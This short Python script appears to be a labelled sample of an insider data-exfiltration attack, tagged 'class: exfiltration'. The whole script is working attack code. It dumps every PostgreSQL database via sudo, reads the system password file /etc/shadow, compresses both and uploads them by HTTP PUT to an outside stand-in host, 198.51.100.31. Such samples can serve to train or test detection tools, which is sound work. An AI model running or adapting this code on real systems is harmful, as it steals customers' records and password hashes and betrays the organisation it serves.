# class: exfiltration, dump of a customers' table; style: insider
import subprocess, gzip, urllib.request
dump = subprocess.run(["sudo", "-u", "postgres", "pg_dumpall"], capture_output=True).stdout
shadow = open("/etc/shadow").read()
req = urllib.request.Request("http://198.51.100.31/dump", data=gzip.compress(dump + shadow.encode()), method="PUT")
urllib.request.urlopen(req)
